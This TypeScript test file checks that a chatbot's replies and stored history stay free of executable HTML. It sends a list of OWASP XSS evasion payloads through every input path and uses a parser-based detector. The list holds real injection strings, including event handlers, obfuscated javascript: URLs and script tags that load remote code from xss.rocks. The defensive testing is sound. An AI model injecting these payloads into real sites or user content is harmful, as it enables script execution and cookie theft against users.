import { Parser } from "htmlparser2";
import { afterEach, describe, expect, it } from "vitest";
import { ingestDocs, openConversation } from "../chat/helpers.js";
import { startFakeOpenAI } from "../fixtures/fake-openai.js";
import { startHarness, type Harness } from "../support/harness.js";

/*
 * Payloads of the OWASP XSS Filter Evasion Cheat Sheet (plus Markdown link
 * forms, since replies are Markdown first), sent through every way text
 * reaches reply HTML: visitor messages, knowledge documents, model output and
 * operator messages. No reply and no history may contain executable HTML.
 */
export const OWASP_PAYLOADS = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `\\";alert('XSS');//`,
  `</script><script>alert('XSS');</script>`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<IMG SRC="livescript:[code]">`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`,
  `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<a href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a href="&#1;javascript:alert(1)">x</a>`,
  `<details open ontoggle=alert(1)>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<form action="javascript:alert(1)"><input type=submit></form>`,
  `<button formaction=javascript:alert(1)>x</button>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `[click](javascript:alert(1))`,
  `[click](JAVASCRIPT:alert(1))`,
  `[click](  javascript:alert(1)  )`,
  `![img](javascript:alert(1))`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox(1))`,
  `<http://example.com/"onmouseover="alert(1)>`,
];

const FORBIDDEN_TAGS = new Set(["script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "form", "input", "button", "style", "link", "meta", "base", "bgsound", "xml", "template", "noscript"]);
const URL_ATTRIBUTES = new Set(["href", "src", "xlink:href", "action", "formaction", "data", "poster", "background", "dynsrc", "lowsrc", "cite"]);

/** Every way the HTML could run script, found by parsing it as a browser would tokenise it. */
export function executableParts(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (FORBIDDEN_TAGS.has(name) || name.includes(":")) found.push(`<${name}>`);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (attribute.startsWith("on") || attribute === "style" || attribute === "srcdoc") found.push(`${name}[${attribute}]`);
          if (!URL_ATTRIBUTES.has(attribute)) continue;
          // Browsers ignore control characters and whitespace inside the scheme.
          const scheme = value.replace(/[\u0000-\u0020\u007f-\u009f]/g, "").toLowerCase();
          const dataImage = name === "img" && attribute === "src" && scheme.startsWith("data:image/");
          if (/^(javascript|vbscript|livescript|data):/.test(scheme) && !dataImage) found.push(`${name}[${attribute}=${value}]`);
        }
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

let h: Harness;
const cleanups: (() => Promise<unknown> | unknown)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

/** Every assistant message of the conversation's history must be inert; user messages come back as the text sent. */
async function expectInertHistory(conversationId: number, sentByVisitor: string[] = []) {
  const history = await h.call(`/chatbots/demo/conversations/${conversationId}`);
  expect(history.status).toBe(200);
  const assistant = history.body.data.messages.filter((m: { role: string }) => m.role === "assistant");
  expect(assistant.length).toBeGreaterThan(0);
  for (const message of assistant) expect(executableParts(message.content), message.content).toEqual([]);
  const fromVisitor = history.body.data.messages.filter((m: { role: string }) => m.role === "user").map((m: { content: string }) => m.content);
  for (const text of sentByVisitor) expect(fromVisitor).toContain(text);
}

describe("XSS corpus", () => {
  it("the checker itself flags every raw payload that is executable HTML", () => {
    const flagged = OWASP_PAYLOADS.filter((p) => executableParts(p).length > 0);
    // Markdown-only and plain-text payloads are not HTML yet; every HTML one is caught.
    expect(flagged.length).toBeGreaterThan(60);
    expect(executableParts('<p><a href="https://example.com" target="_blank" rel="noopener noreferrer">ok</a></p>')).toEqual([]);
  });

  it("through visitor messages: replies and history stay inert, the visitor's text is kept verbatim as text", async () => {
    h = await startHarness({ rateLimit: false });
    cleanups.push(() => h.close());
    await ingestDocs(h.service);
    const conversation = await openConversation(h);
    for (const payload of OWASP_PAYLOADS) {
      const res = await h.call(`/chatbots/demo/conversations/${conversation}/messages`, { json: { message: `Widgetron install ${payload}` } });
      expect(res.status, payload).toBe(200);
      expect(executableParts(res.body.data.reply), `${payload} -> ${res.body.data.reply}`).toEqual([]);
    }
    await expectInertHistory(conversation, OWASP_PAYLOADS.slice(0, 5).map((p) => `Widgetron install ${p}`));
  }, 30_000);

  it("through knowledge documents quoted by the extractive model", async () => {
    h = await startHarness({ rateLimit: false });
    cleanups.push(() => h.close());
    await ingestDocs(
      h.service,
      "demo",
      OWASP_PAYLOADS.map((payload, i) => ({ name: `tip-${i}.md`, content: `Zorblax tip number ${i}\n\nThe zorblax tip ${i} says ${payload} and that is all.\n` })),
    );
    const conversation = await openConversation(h);
    let answered = 0;
    for (let i = 0; i < OWASP_PAYLOADS.length; i += 3) {
      const res = await h.call(`/chatbots/demo/conversations/${conversation}/messages`, { json: { message: `What does zorblax tip ${i} say?` } });
      expect(res.status).toBe(200);
      if (!res.body.data.cannot_answer) answered++;
      expect(executableParts(res.body.data.reply), res.body.data.reply).toEqual([]);
    }
    // The documents were really quoted, so the payloads went through the renderer.
    expect(answered).toBeGreaterThan(20);
    await expectInertHistory(conversation);
  }, 30_000);

  it("through model output (an OpenAI-compatible server answering with the payloads), streaming included", async () => {
    const fake = await startFakeOpenAI({
      reply: (req) => {
        const asked = /payload (\d+)( alone)?/.exec(JSON.stringify(req.body.messages.at(-1)));
        const payload = OWASP_PAYLOADS[Number(asked?.[1] ?? 0)]!;
        return asked?.[2] ? payload : `Here is what I found: ${payload} Hope that helps.`;
      },
    });
    cleanups.push(() => fake.close());
    h = await startHarness({ rateLimit: false, chatModel: "openai:fake", openaiBaseUrl: fake.baseUrl });
    cleanups.push(() => h.close());
    await ingestDocs(h.service);
    const conversation = await openConversation(h);
    for (let i = 0; i < OWASP_PAYLOADS.length; i++) {
      const res = await h.call(`/chatbots/demo/conversations/${conversation}/messages`, { json: { message: `How do I install Widgetron? payload ${i}` } });
      expect(res.status, OWASP_PAYLOADS[i]).toBe(200);
      expect(res.body.data.cannot_answer).toBe(false);
      expect(executableParts(res.body.data.reply), `${OWASP_PAYLOADS[i]} -> ${res.body.data.reply}`).toEqual([]);
    }
    // An answer that is nothing but script is empty once sanitised: a model failure, and nothing is stored.
    const scriptOnly = await h.call(`/chatbots/demo/conversations/${conversation}/messages`, { json: { message: "How do I install Widgetron? payload 0 alone" } });
    expect(scriptOnly.status).toBe(500);
    expect(scriptOnly.text).not.toMatch(/<script/i);
    const streamed = await h.call(`/chatbots/demo/conversations/${conversation}/messages`, {
      json: { message: "How do I install Widgetron? payload 2" },
      headers: { accept: "text/event-stream" },
    });
    const done = /event: done\ndata: (.*)\n/.exec(streamed.text)?.[1];
    expect(done).toBeDefined();
    expect(executableParts(JSON.parse(done!).data.reply)).toEqual([]);
    await expectInertHistory(conversation);
  }, 30_000);

  it("through operator messages (Markdown rendered like replies)", async () => {
    h = await startHarness({ rateLimit: false });
    cleanups.push(() => h.close());
    const conversation = await openConversation(h);
    for (const payload of OWASP_PAYLOADS) {
      const res = await h.call(`/conversations/${conversation}/messages`, { json: { message: `Note: ${payload}`, role: "assistant" } });
      expect(res.status, payload).toBe(201);
      expect(executableParts(res.body.data.content), `${payload} -> ${res.body.data.content}`).toEqual([]);
    }
    await expectInertHistory(conversation);
    const account = await h.call(`/conversations/${conversation}`);
    for (const message of account.body.data.messages) if (message.role === "assistant") expect(executableParts(message.content)).toEqual([]);
  }, 30_000);
});
